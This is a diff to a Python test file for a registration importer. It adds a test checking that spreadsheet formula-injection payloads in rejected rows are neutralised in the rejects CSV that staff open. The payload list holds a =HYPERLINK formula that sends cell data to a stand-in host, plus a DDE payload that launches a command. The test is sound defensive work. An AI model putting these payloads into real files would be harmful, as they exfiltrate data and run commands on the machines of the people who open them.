@@ -9,6 +9,8 @@ from pathlib import Path
 import openpyxl
 import pytest
 
+from staging.people.fields import PERSON_FIELDS
+from staging.registration.cells import spreadsheet_value
 from staging.registration.columns import CANONICAL_COLUMNS, SPANISH_HEADERS
 from staging.registration.problems import ImportFileError
 from staging.registration.reader import read_table
@@ -20,8 +22,11 @@ SPANISH = [SPANISH_HEADERS[column] for column in CANONICAL_COLUMNS]
 
 
 def _read_rejects(path: Path, delimiter: str) -> list[list[str]]:
+    """The cells as the importer reads them: a spreadsheet-safe "'+52…" stands for "+52…"."""
     with path.open(encoding="utf-8-sig", newline="") as rejects:
-        return list(csv.reader(rejects, delimiter=delimiter))
+        return [
+            list(map(spreadsheet_value, line)) for line in csv.reader(rejects, delimiter=delimiter)
+        ]
 
 
 def _spanish_list_with_two_bad_rows(tmp_path: Path) -> Path:
@@ -177,3 +182,56 @@ def test_rejects_file_is_readable_by_this_account_only(tmp_path: Path) -> None:
     written = write_rejects(read_table(source), parsed.problems, source)
     assert written is not None
     assert stat.S_IMODE(written.stat().st_mode) & 0o077 == 0
+
+
+PAYLOADS = [
+    '=HYPERLINK("http://x.example/?d="&A1,"Ver")',
+    "=1+2",
+    "+1+2",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+    "'=1+2",
+]
+TEXT_COLUMNS = [field.name for field in PERSON_FIELDS if field.kind in ("id", "text", "note")]
+
+
+def test_formula_payloads_in_every_text_column_are_inert_and_reimport_the_same(
+    tmp_path: Path,
+) -> None:
+    """Seen: =HYPERLINK(...) and =1+2 written raw into the rejects file that staff open."""
+    rows = [
+        good_row(
+            registration_id=f"T-{n}",
+            date_of_birth="31/02/1990",  # every row rejected, every payload written out
+            **{column: payload for column in TEXT_COLUMNS if column != "registration_id"},
+        )
+        for n, payload in enumerate(PAYLOADS)
+    ]
+    rows.append(good_row(registration_id=PAYLOADS[0], date_of_birth="31/02/1990"))
+    path = write_rows(tmp_path / "lista.csv", rows, delimiter=";")
+    parsed = parse_file(path, today=TODAY)
+    assert len(parsed.problems) == len(rows)
+    written = write_rejects(parsed.source, parsed.problems, path)
+    assert written is not None
+
+    with written.open(encoding="utf-8-sig", newline="") as rejects:
+        raw = list(csv.reader(rejects, delimiter=";"))
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in raw for cell in line
+    )
+    assert (
+        raw[1][CANONICAL_COLUMNS.index("given_names")]
+        == '\'=HYPERLINK("http://x.example/?d="&A1,"Ver")'
+    )
+    # A list's "'=1+2" is what a spreadsheet-safe export writes for "=1+2", and reads as that.
+    assert raw[8][CANONICAL_COLUMNS.index("notes")] == "'=1+2"
+
+    again = parse_file(written, today=TODAY)
+    assert [row.values[: len(CANONICAL_COLUMNS)] for row in again.source.rows] == [
+        row.values for row in parsed.source.rows
+    ]
+    assert [(p.column, p.value, p.code) for p in again.problems] == [
+        (p.column, p.value, p.code) for p in parsed.problems
+    ]
